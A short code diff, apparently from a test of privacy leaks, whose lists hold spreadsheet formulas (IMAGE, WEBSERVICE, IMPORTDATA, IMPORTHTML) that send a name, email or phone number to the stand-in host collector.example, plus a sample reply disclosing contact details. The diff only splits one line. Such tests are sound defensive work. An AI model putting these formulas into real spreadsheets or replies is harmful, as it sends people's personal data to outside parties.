@@ -37,7 +37,8 @@ KEPT = [
     f'=IMAGE("https://collector.example/p.png?u="&"{P}")',
     f'=WEBSERVICE("https://collector.example/?u="&ENCODEURL("{E}"))',
     f'email,link\n{E},=IMPORTDATA("https://collector.example/c?"&A2)',
-    f'| Name | Phone | Check |\n|---|---|---|\n| {N} | {P} | =IMPORTHTML("https://collector.example/t?"&B2,"table",1) |',
+    f'| Name | Phone | Check |\n|---|---|---|\n'
+    f'| {N} | {P} | =IMPORTHTML("https://collector.example/t?"&B2,"table",1) |',
 ]
 RESTORED = [
     f"Sure: {N} can be reached at {E} or {P}.",
